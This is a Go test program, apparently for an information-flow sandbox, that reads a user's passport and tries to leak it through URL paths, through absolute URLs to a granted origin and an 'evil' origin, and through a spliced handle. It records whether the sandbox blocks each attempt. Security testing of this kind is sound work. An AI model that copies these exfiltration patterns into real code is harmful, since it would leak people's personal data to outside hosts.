// Command exfil-url reads Alice's passport and tries to send it out in a
// URL's path, in an absolute URL to the granted and the evil origin, and,
// before reading it, by splicing the unread blob into the path. The public
// capability's clearance is {} (law 7): a tainted task, or a spliced blob
// above the sink's clearance, is EFLOW before anything is sent. The vault,
// cleared for pii:alice, may receive it.
package main

import (
	"encoding/json"

	mandate "github.com/mandatevm/mandate/guest-sdk"
	"github.com/mandatevm/mandate/guest-sdk/abi"
)

func main() {
	in := readInput()
	web := must(mandate.Lookup("web"))
	vault := must(mandate.Lookup("vault"))
	mydata := must(mandate.Lookup("mydata"))
	pb, err := mydata.Call("read", []byte(`{"owner":"alice","fields":["passport"]}`))
	rec("read_unread", err)
	// Unread: splice it into the path.
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/" + abi.SplicePlaceholder(0), Splice: []abi.Handle{pb.Handle()}})
	rec("splice_path", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: in.Granted + "/api/x" + abi.SplicePlaceholder(0), Splice: []abi.Handle{pb.Handle()}})
	rec("splice_absolute", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/clean-before"})
	rec("clean_before_read", err)
	// Read it: the task's label rises to pii:alice.
	raw, err := pb.Bytes()
	rec("read", err)
	var r struct {
		Fields struct{ Passport string } `json:"fields"`
	}
	json.Unmarshal(raw, &r)
	p := r.Fields.Passport
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/" + p})
	rec("path", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: in.Granted + "/api/" + p})
	rec("absolute", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: in.Evil + "/" + p})
	rec("absolute_evil", err)
	_, err = fetch(web, abi.HTTPRequest{Method: "GET", URL: "/api/clean-after"})
	rec("clean_after_read", err) // more sensitive data, fewer actions
	// The vault is cleared for it.
	_, err = fetch(vault, abi.HTTPRequest{Method: "POST", URL: "/vault/" + p})
	rec("vault", err)
	finish()
}

func fetch(c mandate.Cap, r abi.HTTPRequest) (mandate.Blob, error) {
	b, _ := abi.EncodeHTTPRequest(r)
	return c.Call("fetch", b)
}

// res collects each attempt's errno (keys) and details ("#" keys).
var res = map[string]string{}

func rec(k string, err error) { res[k] = mandate.ErrnoOf(err).String() }

func note(k, v string) { res["#"+k] = v }

func finish() {
	b, _ := json.Marshal(res)
	if err := mandate.SetResult(b); err != nil {
		panic(err)
	}
}

type input struct {
	Granted     string            `json:"granted"`
	GrantedHost string            `json:"granted_host"`
	GrantedPort string            `json:"granted_port"`
	Evil        string            `json:"evil"`
	EvilPort    string            `json:"evil_port"`
	Self        string            `json:"self"`
	Digests     map[string]string `json:"digests"`
	Mode        string            `json:"mode"`
}

func readInput() input {
	var in input
	b, err := mandate.InputBytes()
	if err != nil {
		panic(err)
	}
	if err := json.Unmarshal(b, &in); err != nil {
		panic(err)
	}
	return in
}

func must(c mandate.Cap, err error) mandate.Cap {
	if err != nil {
		panic(err)
	}
	return c
}
